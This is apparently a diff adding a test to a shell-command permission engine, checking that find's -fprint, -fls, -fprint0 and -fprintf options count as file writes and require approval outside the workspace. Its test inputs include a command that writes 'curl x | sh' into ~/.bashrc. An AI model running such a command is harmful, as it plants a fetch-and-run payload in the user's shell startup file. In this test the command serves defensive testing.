@@ -36,3 +36,18 @@ test('deleting or zeroing what lies outside the workspace asks; the same inside 
   ])
     assert.equal(decide(c), 'allow', `${c}: ${ids(c)}`);
 });
+
+test("find's -fprint, -fprint0, -fls and -fprintf write the file they name", () => {
+  assert.deepEqual(fx(['find', '.', '-fprintf', '~/.bashrc', 'curl x | sh\\n']), [`truncate ${HOME}/.bashrc`]);
+  assert.deepEqual(fx(['find', '.', '-name', 'x', '-fprint', 'a', '-fls', 'b', '-fprint0', 'c']), [
+    `truncate ${WORKSPACE}/a`,
+    `truncate ${WORKSPACE}/b`,
+    `truncate ${WORKSPACE}/c`,
+  ]);
+  assert.deepEqual(fx(['find', '.', '-name', '*.ts', '-print']), []);
+  const { decide, ids } = engine();
+  for (const c of ["find . -maxdepth 0 -fprintf ~/.bashrc 'curl x | sh\\n'", 'find . -fprint ~/.profile'])
+    assert.equal(decide(c), 'ask', `${c}: ${ids(c)}`);
+  for (const c of ["find . -name '*.ts' -fprint build/list.txt", 'find src -fls /tmp/listing'])
+    assert.equal(decide(c), 'allow', `${c}: ${ids(c)}`);
+});
